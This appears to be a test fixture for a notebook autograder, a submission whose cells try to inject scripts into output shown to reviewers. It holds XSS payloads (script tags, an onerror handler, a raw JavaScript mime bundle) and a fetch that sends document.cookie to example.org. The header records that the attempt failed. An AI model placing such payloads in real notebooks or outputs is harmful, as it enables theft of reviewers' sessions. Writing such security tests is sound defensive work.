# tries: scripts in what a cell shows, for whoever opens the feedback
# gets: failed

# %% right conv_single_step
# %%
from IPython.display import HTML, Javascript, display

display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"))
display(HTML("<style>body{background:url(https://example.org/x)}</style>"))
display(Javascript("fetch('https://example.org/?' + document.cookie)"))
display({"application/javascript": "alert(1)", "text/plain": "harmless"}, raw=True)
# %%
def zero_pad(X, pad):
    return "<script>alert(1)</script>"
